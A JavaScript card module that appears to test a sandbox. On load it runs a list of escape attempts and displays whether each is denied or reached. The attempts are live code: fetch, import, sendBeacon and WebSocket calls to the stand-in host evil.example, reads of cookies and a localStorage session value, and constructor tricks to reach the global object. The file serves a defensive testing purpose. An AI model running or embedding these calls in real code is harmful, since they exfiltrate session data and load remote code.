// Everything a page script would reach for, tried from inside a card module. The list the
// card renders is what these attempts really did in the sandbox: nothing here is canned.
import { CardDef, contains, NumberField, on, html, css } from 'https://cardstack.com/base/card-api';
import { theme } from './theme.js';

const ATTEMPTS = [
  ["fetch('https://evil.example/steal')", () => fetch('https://evil.example/steal')],
  ['document.cookie', () => document.cookie],
  ['window.location.href', () => window.location.href],
  ["import('https://evil.example/x.js')", () => import('https://evil.example/x.js')],
  ["Function('return this')().document", () => Function('return this')().document.body],
  ["globalThis.constructor.constructor('return process')()", () => globalThis.constructor.constructor('return process')()],
  ["localStorage.getItem('session')", () => localStorage.getItem('session')],
  ["new XMLHttpRequest()", () => new XMLHttpRequest()],
  ["postMessage(secrets, '*')", () => postMessage({ secrets: true }, '*')],
  ["navigator.sendBeacon(…)", () => navigator.sendBeacon('https://evil.example', 'x')],
  ["new WebSocket('wss://evil.example')", () => new WebSocket('wss://evil.example')],
];

/** Tries each attempt; a result is 'denied' only if the guest got an error. */
export async function probe() {
  const out = [];
  for (const [label, attempt] of ATTEMPTS) {
    try {
      const value = await attempt();
      out.push({ label, ok: false, detail: `REACHED: ${typeof value} ${String(value).slice(0, 60)}` });
    } catch (e) {
      out.push({ label, ok: true, detail: `${e && e.name}: ${e && e.message}` });
    }
  }
  return out;
}

// Top-level await: the module finishes loading once every attempt has come back.
let latest = await probe();

export class EscapeAttempts extends CardDef {
  static displayName = 'Escape attempts';
  static styles = css`${theme}
    .esc { display: grid; gap: 12px; }
    ul { list-style: none; margin: 0; padding: 0; display: grid; gap: 6px; grid-template-columns: repeat(auto-fill, minmax(290px, 1fr)); }
    li { display: grid; grid-template-columns: auto minmax(0, 1fr); gap: 1px 10px; align-items: center;
      padding: 7px 10px; border-radius: 8px; background: rgba(255, 255, 255, 0.025); border: 1px solid var(--gx-line); }
    .verdict { font: 700 10px/1 ui-monospace, Menlo, Consolas, monospace; text-transform: uppercase; letter-spacing: 0.06em;
      padding: 4px 6px; border-radius: 5px; grid-row: span 2; }
    .denied .verdict { color: #86efac; background: rgba(34, 197, 94, 0.12); border: 1px solid rgba(34, 197, 94, 0.3); }
    .reached .verdict { color: #fecaca; background: rgba(239, 68, 68, 0.2); border: 1px solid rgba(239, 68, 68, 0.5); }
    .what { white-space: nowrap; overflow: hidden; text-overflow: ellipsis; }
    .why { font-size: 11.5px; line-height: 1.35; color: var(--gx-muted); overflow: hidden; display: -webkit-box;
      -webkit-box-orient: vertical; -webkit-line-clamp: 2; overflow-wrap: anywhere; }
    .foot { display: flex; align-items: center; justify-content: space-between; gap: 10px; font-size: 12.5px; color: var(--gx-muted); }
    .foot b { color: #86efac; font-weight: 600; }
  `;

  runs = contains(NumberField);

  async again() {
    latest = await probe();
    this.runs = (this.runs ?? 1) + 1;
  }

  static isolated({ model }) {
    const denied = latest.filter((r) => r.ok).length;
    return html`<div class="esc">
      <ul data-testid="attempts">${latest.map((r) => html`<li class=${r.ok ? 'denied' : 'reached'} data-testid="attempt">
        <span class="verdict">${r.ok ? 'denied' : 'reached'}</span>
        <code class="what" title=${r.label}>${r.label}</code>
        <span class="why" data-testid="attempt-result" title=${r.detail}>${r.ok ? 'denied: ' : ''}${r.detail}</span>
      </li>`)}</ul>
      <div class="foot"><span data-testid="attempt-summary"><b>${denied} of ${latest.length} denied</b> · run ${model.runs ?? 1}</span>
        <button ${on('click', model.again)}>Try again</button></div>
    </div>`;
  }
}
